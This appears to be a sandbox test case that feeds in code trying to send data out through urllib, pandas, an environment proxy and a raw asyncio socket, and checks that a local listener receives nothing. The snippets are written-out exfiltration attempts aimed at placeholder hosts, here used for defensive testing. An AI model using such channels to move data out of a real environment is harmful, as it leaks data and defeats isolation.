"""Sends data out by urllib, asyncio, pandas and a proxy in the environment.

The listener must not hear one byte.
"""

from pathlib import Path

from kit import Release, Scene, type_in, write

family = "theft"
safe_on_stock = True

CODE = """
import asyncio, os, urllib.request
import pandas as pd
os.environ["http_proxy"] = "http://127.0.0.1:@PORT@"
for way in (lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/urllib", timeout=2), lambda: pd.read_csv("http://127.0.0.1:@PORT@/pandas.csv"), lambda: urllib.request.urlopen("http://example.invalid/", timeout=2)):
    try:
        way()
    except Exception as error:
        print(type(error), error)
reader, writer = await asyncio.open_connection("127.0.0.1", @PORT@)
writer.write(b"asyncio")
await writer.drain()
"""


def hand_in(release: Release, folder: Path, scene: Scene) -> None:
    type_in(release, scene.fill(CODE))
    write(release, folder)
